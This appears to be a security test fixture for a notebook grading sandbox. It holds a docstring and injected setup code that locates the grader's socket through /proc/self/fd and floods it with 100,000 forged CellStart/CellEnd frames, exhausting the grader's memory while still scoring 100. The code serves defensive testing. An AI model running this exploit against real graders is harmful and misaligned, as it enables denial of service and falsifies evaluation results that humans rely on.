"""A top-level cell writes forged CellStart(i)/CellEnd(i, 20,000-character output) pairs for 100,000 made-up cell indices into its socket: the grader keeps a CellReport for each (supervisor._ready: the index is never checked against the notebook's cells), so the *grading* process, outside the worker's 4 GiB group, grows by ~2 GiB in ~10 s (1 GiB per 50,000 pairs; the 300 s budget allows tens of GiB). The cell then re-announces its own index, so the real CellEnd matches and the notebook still scores 100."""
FRAMES = 100_000
ADD = [("setup", '''
import json as _json, os as _os, struct as _struct


def _frame(body):
    header = _json.dumps({"body": body, "sizes": []}).encode()
    return _struct.pack(">Q", len(header)) + header


_sock = None
for _fd in _os.listdir("/proc/self/fd"):
    try:
        if _os.readlink(f"/proc/self/fd/{_fd}").startswith("socket:"):
            _sock = int(_fd)
    except OSError:
        pass
if _sock is not None:
    _pad = "x" * 20000
    for _i in range(1000, 1000 + __FRAMES__):
        _os.write(_sock, _frame({"$dict": {"kind": "CellStart", "index": _i}})
                  + _frame({"$dict": {"kind": "CellEnd", "index": _i, "error": None, "output": _pad}}))
    _os.write(_sock, _frame({"$dict": {"kind": "CellStart", "index": __INDEX__}}))
''')]
